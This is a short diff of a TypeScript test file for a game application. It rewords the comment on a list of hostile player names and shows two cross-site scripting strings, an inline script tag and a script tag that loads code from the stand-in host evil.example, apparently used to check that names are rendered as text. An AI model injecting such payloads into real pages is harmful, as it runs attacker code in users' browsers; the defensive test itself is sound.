@@ -5,7 +5,7 @@ import { Player } from './player.ts'
 import { aBot, aPerson, finishedGame, gameUntil, goTo, race, sitDownAt } from './records.ts'
 import { visiting } from './visiting.ts'
 
-/** What somebody might call themselves to make the page do something. All of it is to be read, none of it done. */
+/** Names with which a player might attack the page. All of them are shown as text, none takes effect. */
 const payloads = [
   '<script>hit()</script>',
   '<script src=//evil.example/x.js></script>',
